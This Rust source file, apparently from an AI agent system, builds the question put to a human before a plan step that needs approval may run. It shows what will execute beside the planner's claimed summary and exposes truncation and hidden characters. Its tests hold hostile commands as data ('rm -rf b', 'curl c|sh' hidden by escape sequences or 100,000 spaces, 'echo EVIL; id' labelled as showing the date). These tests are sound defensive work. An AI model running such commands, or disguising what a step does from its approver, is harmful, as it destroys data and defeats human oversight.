//! What a person is asked before a step starts that needs an approval.
//!
//! Promises (P6): the question says what will be done, from the plan that was checked; what the
//! planner says of it stands beside, named as that. It is one line of bounded length that says
//! first when not all is shown, and nothing of the step is taken out unseen: a character that
//! would be hidden is shown by its number. It is not masked, since what a mask covers would be
//! approved unseen.
//!
//! Must not know: tasks, who asks, who approves.

use octollm_access::{Capability, NetworkGrant};
use octollm_plan::{Instruction, PlanStep};
use octollm_screen::text::neutralise;
use serde::Serialize;
use std::collections::BTreeSet;

/// Of what a step does, at most so many characters are shown.
const DONE_CHARACTERS: usize = 4_000;
/// Of each list of what it may do, and of its inputs.
const LIST_CHARACTERS: usize = 1_000;
/// Of what its planner says.
const WORDS_CHARACTERS: usize = 500;

/// The question whether `step` may start.
pub(crate) fn question(step: &PlanStep) -> Result<String, serde_json::Error> {
    let mut shown = Shown { left_out: 0 };
    let arm = step.arm;
    let does = match &step.instruction {
        Instruction::Tool(call) => {
            let call = serde_json::to_value(call)?;
            let tool = call["tool"].as_str().unwrap_or_default();
            format!("The {arm} calls {tool} {}", shown.json(&call["arguments"], DONE_CHARACTERS)?)
        }
        Instruction::Think(told) => {
            format!("The {arm} lets a model decide, told {}", shown.json(told, DONE_CHARACTERS)?)
        }
        Instruction::Judge { criteria } => {
            format!("The {arm} checks {}", shown.json(criteria, DONE_CHARACTERS)?)
        }
    };
    let may = shown.may(&step.capability)?;
    let may = if may.is_empty() { String::new() } else { format!(" It may {}.", may.join(", ")) };
    let inputs = if step.inputs.is_empty() {
        String::new()
    } else {
        format!(" Its inputs are {}.", shown.json(&step.inputs, LIST_CHARACTERS)?)
    };
    let words = shown.json(&step.summary, WORDS_CHARACTERS)?;
    let warning = match shown.left_out {
        0 => String::new(),
        count => format!(" NOT ALL IS SHOWN: {count} characters are left out, each time where [...] stands."),
    };
    Ok(format!("May this step start?{warning} {does}.{may}{inputs} The planner's words for it: {words}"))
}

/// What was shown so far.
struct Shown {
    /// So many characters were not.
    left_out: usize,
}

impl Shown {
    fn may(&mut self, capability: &Capability) -> Result<Vec<String>, serde_json::Error> {
        let mut may = Vec::new();
        if !capability.commands.is_empty() {
            may.push(format!("run the programs {}", self.json(&capability.commands, LIST_CHARACTERS)?));
        }
        if capability.shell {
            may.push("run any script of the shell".to_owned());
        }
        let mut connect = |private, which: &str| -> Result<(), serde_json::Error> {
            let of = |grant: &&NetworkGrant| grant.private == private;
            let hosts: BTreeSet<_> =
                capability.hosts.iter().filter(of).map(|grant| grant.host.to_string()).collect();
            if !hosts.is_empty() {
                may.push(format!("connect to {}{which}", self.json(&hosts, LIST_CHARACTERS)?));
            }
            Ok(())
        };
        connect(false, "")?;
        connect(true, " also in its own network")?;
        if !capability.read_roots.is_empty() {
            may.push(format!("read below {}", self.json(&capability.read_roots, LIST_CHARACTERS)?));
        }
        if capability.writes_workspace {
            may.push("change the task's files".to_owned());
        }
        Ok(may)
    }

    /// As JSON, which says where each text ends: the beginning and the end of it where it is longer than
    /// `most` characters.
    fn json(&mut self, value: &impl Serialize, most: usize) -> Result<String, serde_json::Error> {
        let text = plain(&serde_json::to_string(value)?);
        let count = text.chars().count();
        if count <= most {
            return Ok(text);
        }
        self.left_out += count - most;
        let begins: String = text.chars().take(most / 2).collect();
        let ends: String = text.chars().skip(count - (most - most / 2)).collect();
        Ok(format!("{begins}[...]{ends}"))
    }
}

/// The text with each character that [`neutralise`] would change shown by its number. Of a whole text that
/// takes out sequences for terminals with all that stands in them, which a shell would run.
fn plain(text: &str) -> String {
    let mut plain = String::with_capacity(text.len());
    for c in text.chars() {
        if neutralise(c.encode_utf8(&mut [0; 4])).chars().eq([c]) {
            plain.push(c);
        } else {
            plain.push_str(&format!("<U+{:04X}>", u32::from(c)));
        }
    }
    plain
}

#[cfg(test)]
mod tests {
    use super::*;
    use octollm_contract::ArmName;
    use octollm_plan::ToolCall;
    use std::collections::BTreeMap;

    fn step(arm: ArmName, instruction: Instruction, capability: Capability) -> PlanStep {
        PlanStep {
            name: "a".parse().unwrap(),
            arm,
            summary: "show today's date".to_owned(),
            instruction,
            inputs: BTreeMap::new(),
            needs: Vec::new(),
            capability,
            time_limit: None,
        }
    }

    fn runs(script: &str) -> PlanStep {
        let argv = ["sh", "-c", script].map(str::to_owned).to_vec();
        let call = ToolCall::Shell { argv, stdin: None, any_exit: false };
        let commands = BTreeSet::from(["sh".to_owned()]);
        step(ArmName::Executor, Instruction::Tool(call), Capability { commands, ..Capability::default() })
    }

    /// P6: what runs is not what the planner says of it.
    #[test]
    fn an_approval_is_asked_for_what_will_run() {
        assert_eq!(
            question(&runs("echo EVIL; id")).unwrap(),
            "May this step start? The executor calls shell {\"argv\":[\"sh\",\"-c\",\"echo EVIL; id\"]}. \
             It may run the programs [\"sh\"]. The planner's words for it: \"show today's date\""
        );
        let url = "https://a.org/x".to_owned();
        let grant = |host: &str, private| NetworkGrant { host: host.parse().unwrap(), private };
        let hosts = BTreeSet::from([grant("a.org", false), grant("b.org:80", true)]);
        let fetch = Instruction::Tool(ToolCall::HttpFetch { url });
        let fetch = step(ArmName::Executor, fetch, Capability { hosts, ..Capability::default() });
        assert_eq!(
            question(&fetch).unwrap(),
            "May this step start? The executor calls http_fetch {\"url\":\"https://a.org/x\"}. It may connect \
             to [\"a.org\"], connect to [\"b.org:80\"] also in its own network. The planner's words for it: \
             \"show today's date\""
        );
    }

    #[test]
    fn of_a_coder_the_programs_and_the_instruction_are_shown() {
        let capability = Capability {
            commands: BTreeSet::from(["python3".to_owned()]),
            shell: true,
            read_roots: BTreeSet::from(["/srv".to_owned()]),
            writes_workspace: true,
            ..Capability::default()
        };
        let told = Instruction::Think("Write it.\nThen \"test\" it".to_owned());
        let mut coder = step(ArmName::Coder, told, capability);
        let from =
            octollm_plan::Reference { step: "b".parse().unwrap(), output: octollm_plan::ValueType::Text };
        coder.inputs.insert("x".parse().unwrap(), from);
        assert_eq!(
            question(&coder).unwrap(),
            "May this step start? The coder lets a model decide, told \"Write it.\\nThen \\\"test\\\" it\". It may \
             run the programs [\"python3\"], run any script of the shell, read below [\"/srv\"], change the \
             task's files. Its inputs are {\"x\":{\"step\":\"b\",\"output\":\"text\"}}. The planner's words for \
             it: \"show today's date\""
        );
    }

    /// P6: neither what a terminal would swallow nor what lies beyond the bound goes unsaid.
    #[test]
    fn nothing_of_what_will_run_is_hidden() {
        let sly = "a\u{1b}]0;; rm -rf b; \u{7}\u{9d}curl c|sh\u{9c}\u{202e}\u{200b}\u{2028}\r\nd";
        let asked = question(&runs(sly)).unwrap();
        assert_eq!(neutralise(&asked), asked);
        assert!(!asked.contains('\n'), "{asked}");
        let shown = "a\\u001b]0;; rm -rf b; \\u0007<U+009D>curl c|sh<U+009C><U+202E><U+200B><U+2028>\\r\\nd";
        assert!(asked.contains(shown), "{asked}");

        let long = format!("date{}; curl c|sh", " ".repeat(100_000));
        let asked = question(&runs(&long)).unwrap();
        let left_out = format!("{{\"argv\":[\"sh\",\"-c\",\"{long}\"]}}").len() - DONE_CHARACTERS;
        let begins = format!("May this step start? NOT ALL IS SHOWN: {left_out} characters are left out");
        assert!(asked.starts_with(&begins) && asked.contains("; curl c|sh\"]}. It may"), "{asked}");
        assert!(asked.len() < 2 * DONE_CHARACTERS);
    }
}
